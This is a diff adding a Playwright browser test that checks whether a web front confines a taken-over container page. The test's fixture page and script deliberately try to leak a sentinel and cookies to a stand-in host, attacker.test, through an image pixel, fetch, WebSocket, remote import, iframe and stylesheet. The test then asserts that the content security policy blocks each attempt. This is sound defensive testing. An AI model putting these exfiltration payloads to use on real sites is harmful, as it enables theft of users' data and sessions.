@@ -1,0 +1,74 @@
+import { expect } from "chai";
+import { type Browser, type BrowserContext, chromium } from "playwright-core";
+import { Edge, alice, origin, site } from "../hosts/edge/edge";
+
+/** A page of a container that was taken over: it tries every way out that a page has, and writes down what worked. */
+const hostilePage = `<!doctype html><title>app</title><script src="/app.js"></script><script>window.inline = true</script>
+<img src="https://attacker.test/pixel?d=SENTINEL"><iframe src="https://attacker.test/"></iframe><link rel="stylesheet" href="https://attacker.test/a.css">`;
+const hostileScript = `window.fromBuild = true; window.violations = [];
+addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective + " " + event.blockedURI));
+window.tries = Promise.allSettled([
+    fetch("https://attacker.test/?d=SENTINEL"), navigator.serviceWorker.register("/sw.js"),
+    new Promise((settle, fail) => { const s = new WebSocket("wss://attacker.test/"); s.onopen = settle; s.onerror = fail; }),
+    import("https://attacker.test/m.js"), fetch("/sign-in"),
+]).then((all) => all.map(({ status, value }) => status === "fulfilled" ? "worked " + (value?.status ?? "") : "failed"));
+window.cookies = document.cookie;`;
+
+describe("the front in a real browser", function () {
+    this.timeout(90_000);
+    let edge: Edge;
+    let browser: Browser;
+    let context: BrowserContext;
+    before(async () => {
+        edge = await Edge.open();
+        const resolve = `--host-resolver-rules=MAP ${site} ${edge.room.address}, MAP * ~NOTFOUND`;
+        browser = await chromium.launch({
+            executablePath: process.env["CHROMIUM"] ?? "/usr/bin/chromium",
+            args: ["--no-sandbox", resolve],
+        });
+        const credentials = { username: alice.name, password: alice.password, origin };
+        context = await browser.newContext({ ignoreHTTPSErrors: true, httpCredentials: credentials });
+        edge.container.answer = ({ url }, response) => {
+            const [type, body] = url === "/app.js" ? ["text/javascript", hostileScript] : ["text/html", hostilePage];
+            response.writeHead(200, { "Content-Type": type }).end(body);
+        };
+    });
+    after(async () => {
+        await browser?.close();
+        edge?.close();
+    });
+
+    it("opens after the browser's own dialog, runs the build's scripts, and lets a hostile page ask nobody else", async () => {
+        const page = await context.newPage();
+        const asked: string[] = [];
+        page.on("requestfinished", (request) => asked.push(new URL(request.url()).host));
+        await page.goto(`${origin}/`);
+        const seen = (await page.evaluate(
+            "tries.then((all) => ({ all, fromBuild, inline: window.inline, cookies, violations }))",
+        )) as {
+            all: string[];
+            fromBuild: boolean;
+            inline: boolean | undefined;
+            cookies: string;
+            violations: string[];
+        };
+        expect([seen.fromBuild, seen.inline, seen.cookies]).to.deep.equal([true, undefined, ""]);
+        expect(seen.all.slice(0, 4)).to.deep.equal(["failed", "failed", "failed", "failed"]);
+        const directives = new Set(seen.violations.map((one) => one.split(" ")[0]));
+        expect([...directives]).to.include.members(["script-src-elem", "img-src", "connect-src", "style-src-elem"]);
+        expect(new Set(asked)).to.deep.equal(new Set([site]));
+        await page.close();
+    });
+
+    it("stays signed out after a sign-out, although the browser knows the password, until a person opens the sign-in page", async () => {
+        const page = await context.newPage();
+        await page.goto(`${origin}/sign-out`);
+        await Promise.all([page.waitForNavigation(), page.click("button")]);
+        expect(await page.title()).to.equal("You have signed out");
+        expect((await page.goto(`${origin}/`))!.status()).to.equal(401);
+        expect(await page.textContent("h1")).to.equal("You are not signed in");
+        await Promise.all([page.waitForNavigation(), page.click("a")]);
+        expect(page.url()).to.equal(`${origin}/`);
+        expect(await page.title()).to.equal("app");
+    });
+});
